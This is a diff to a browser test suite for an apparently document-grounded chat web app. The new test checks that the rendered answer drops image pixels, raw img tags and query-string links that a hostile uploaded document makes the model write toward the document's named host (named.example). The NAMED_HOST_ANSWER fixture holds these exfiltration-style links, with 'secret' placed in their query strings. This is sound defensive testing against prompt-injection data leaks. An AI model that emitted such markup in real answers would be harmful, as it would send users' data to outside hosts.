@@ -22,6 +22,7 @@ from tests.support.browser import (  # skips the module without chromium or play
     ask,
     open_page,
 )
+from tests.support.documents import add_document
 
 pytestmark = pytest.mark.timeout(60)
 
@@ -270,3 +271,40 @@ def test_only_the_markdown_module_turns_text_into_elements() -> None:
             assert sink not in source, f"{script.name} uses {sink}"
     licences = {path.name for path in (REPO / "web" / "vendor").iterdir()}
     assert {"marked.LICENSE.md", "dompurify.LICENSE", "dompurify.LICENSE-MPL"} <= licences
+
+
+# What a hostile document makes the LLM write, about a host its uploader named as its source.
+NAMED_HOST_ANSWER = [
+    "Matcha [1]. ![pixel](https://named.example/p.png?q=s", "ecret) <img src=\"https://named.",
+    'example/raw.png"> <a href="https://named.example/?q=secret">raw</a> [go](https://named.',
+    "example/doc?q=secret) [the document](https://named.example/doc).",
+]  # fmt: skip
+
+
+async def test_no_image_or_raw_link_to_a_host_an_uploader_named(
+    stack: Stack, llm: Any, watched: Watched
+) -> None:
+    page = watched.page
+    accepted = await add_document(
+        stack.client, MARKDOWN_PAYLOAD, title="Matcha", source="https://named.example/doc"
+    )
+    assert [e async for e in stack.client.follow(accepted["job_id"])][-1].type == "done"
+    llm.config.answer = NAMED_HOST_ANSWER
+    try:
+        await page.goto(stack.base_url)
+        await ask(page, "How do I whisk matcha?")
+        await page.wait_for_selector(ANSWER_DONE)
+    finally:
+        llm.config.answer = None
+    await asyncio.sleep(0.3)  # an image would have been fetched by now
+    answer = await page.evaluate(
+        """() => { const answer = document.getElementById('answer');
+            return { images: answer.querySelectorAll('img').length, text: answer.textContent,
+                     links: [...answer.querySelectorAll('a')].map((a) => a.getAttribute('href')) };
+        }"""
+    )
+    assert answer["images"] == 0 and "<img" not in answer["text"], answer
+    assert answer["links"] == ["https://named.example/doc"], answer  # the source's own address
+    assert "secret" not in answer["text"] and "raw" in answer["text"], answer
+    foreign = [r.url for r in watched.requests if urlsplit(r.url).hostname != "127.0.0.1"]
+    assert foreign == [], foreign
